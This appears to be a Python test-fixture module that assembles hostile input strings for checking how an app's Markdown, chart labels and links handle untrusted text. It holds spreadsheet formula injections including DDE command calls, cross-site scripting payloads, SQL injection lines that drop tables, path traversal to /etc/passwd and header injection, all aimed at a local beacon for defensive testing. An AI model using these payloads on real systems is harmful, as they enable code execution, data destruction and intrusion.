"""Strings that try to be more than text: known lists of them, and ours of the same kind."""

from __future__ import annotations

import json
from collections.abc import Iterable
from functools import cache
from pathlib import Path

HERE = Path(__file__).parent
COMMENTED = "blns_txt.strings"

#: Formulas as they get past a look at the first letter, and commands of spreadsheets.
FORMULAS = tuple(
    f"{before}{start}1+1{after}"
    for start in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "%", "|")
    for before in ("", " ", "\t", "\r", "\n", "\u00a0", "\ufeff", "\u200b", "'", '"', ";", ",", "''")
    for after in ("", "|cmd!A0")
) + (
    '=HYPERLINK("http://127.0.0.1:9/beacon","x")',
    '=WEBSERVICE("http://127.0.0.1:9/beacon")',
    '=IMPORTXML(CONCAT("http://127.0.0.1:9/",A1),"//a")',
    '=DDE("cmd";"/C calc";"A0")',
    "{=1+1}",
    "-2+3+cmd|' /C calc'!A0",
    "-1e5",
    "=1\n=1",
)

#: What Streamlit's Markdown and Plotly's labels understand. {beacon} is where a call would be counted.
MARKED = (
    "![x]({beacon}/image.png)",
    "![x][y]\n\n[y]: {beacon}/reference.png",
    "[![x]({beacon}/inner.png)](javascript:window.ran=1)",
    "[link]({beacon}/link) <{beacon}/auto> {beacon}/bare www.example.org",
    "$\\href{{javascript:window.ran=1}}{{x}}$ $$\\includegraphics{{{beacon}/latex.png}}$$ $x^2$",
    ":material/delete: :streamlit: :red[red] :rainbow-background[x] :blue-badge[x] :small[x] :shortcode:",
    "# heading **bold** _slanted_ `code` ~~out~~ -> <- -- >=",
    "- list\n1. list\n> quote\n\n    code\n\n---\n| a | b |\n|---|---|\n| 1 | 2 |",
    '<a href="{beacon}/plotly" target="_blank">x</a><b>x</b><br><sub>x</sub><span style="color:red">x</span>',
    '<a href="javascript:window.ran=1">x</a><img src={beacon}/tag.png onerror=window.ran=1>',
    '"><svg onload=window.ran=1><style>@import "{beacon}/style.css";*{{background:url({beacon}/b.png)}}</style>',
    "</title></style></textarea></script><script>window.ran=1;fetch('{beacon}/fetch')</script>",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe><object data={beacon}/o></object><base href={beacon}/>',
    "<meta http-equiv=refresh content='0;url={beacon}/refresh'><link rel=stylesheet href={beacon}/link.css>",
    "%{{x}} %{{customdata[0]}} {{{{7*7}}}} ${{7*7}} {{0.__class__}} %s %n %(x)s \\u003cscript\\u003e",
    '#import "/etc/passwd" #read("/etc/passwd") #link("{beacon}/typst")[x] $x$ @ref <label> \\ *x* _x_',
    "'; DROP TABLE returns; -- \"; DELETE FROM log WHERE 1=1; ATTACH 'x.db'; COPY log TO 'x'; $1 ? :name",
    "a\u200bb\u200d\u2060\ufeffc \u0301\u0301\u0301 e\u0327\u0301 \U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\u202egnirts drawkcab\u202c \u2066x\u2069 \u061c",
    "nul\x00 bell\x07 escape\x1b[31m delete\x7f line\u2028 paragraph\u2029 odd\ufffe \ufff9",
    "../../etc/passwd C:\\con\\aux file:///etc/passwd \\\\127.0.0.1\\share %00 %0d%0aSet-Cookie:x=1",
    "x" * 10_000,
    "<b>" * 2_000,
    "\N{FULL BLOCK}" * 500,
)

#: Addresses of the web that may be links, whatever else they try. {beacon} is where a call would be counted.
ADDRESSES = (
    "{beacon}/source?javascript:window.ran=1",
    "https://example.org/'onmouseover='window.ran=1",
    "https://example.org/?x=javascript:window.ran=1//&amp;quot;onload=window.ran=1",
    "HTTPS://EXAMPLE.ORG/%22%3E%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "https://example.org/[x](javascript:window.ran=1)![x]({beacon}/source.png)",
    "https://example.org/`$href{{}}$`%0a:material/delete:",
)

#: Addresses that must never be links: no address of the web, or one that leads elsewhere than it seems to.
NO_LINKS = (
    *("javascript:window.ran=1", "JaVaScRiPt:window.ran=1", "java\tscript:window.ran=1", "\njavascript:window.ran=1"),
    *("javascript://example.org/%0awindow.ran=1", "data:text/html,<script>parent.ran=1</script>", "DATA:text/html;x,y"),
    *("//example.org/x", "/\\example.org", "\\\\example.org\\share", "vbscript:x", "blob:https://example.org/x"),
    *("file:///etc/passwd", "ftp://example.org", "mailto:x@example.org", "about:blank", "view-source:https://x.org"),
    *("https://example.org@127.0.0.1/", "https://example.org:x@127.0.0.1", "http://@127.0.0.1/", "https:///x"),
    *(
        "https://example.org\\@127.0.0.1/",
        "https://example.org\n.invalid",
        "https://exa\tmple.org",
        "https:example.org",
    ),
    *(
        "https://[::1",
        'https://example.org/"onmouseover="window.ran=1',
        "https://example.org/<script>",
        " https://x.org y",
    ),
    *("", " ", "http:", "http://", "https://?x", "\u202ehttps://example.org", "&#106;avascript:x", "%6aavascript:x"),
)


@cache
def hostile(beacon: str = "http://127.0.0.1:9") -> tuple[str, ...]:
    """Return every string once: those of the lists, then ours, which call the beacon's address."""
    known: list[str] = json.loads((HERE / "blns_json.strings").read_text(encoding="utf-8"))
    for path in sorted(HERE.glob("*_txt.strings")):
        lines = path.read_text(encoding="utf-8").split("\n")
        known += [line for line in lines if not (path.name == COMMENTED and line.startswith("#"))]
    ours = [text.format(beacon=beacon) for text in MARKED]
    return tuple(text for text in dict.fromkeys((*known, *FORMULAS, *ours)) if text.strip())


def in_lots(texts: Iterable[str], *, letters: int, between: str = " ") -> list[str]:
    """Return the strings put together to texts of at most so many letters; what is longer is cut to that."""
    lots: list[str] = []
    for text in (text[:letters] for text in texts):
        if lots and len(lots[-1]) + len(between) + len(text) <= letters:
            lots[-1] += between + text
        else:
            lots.append(text)
    return lots
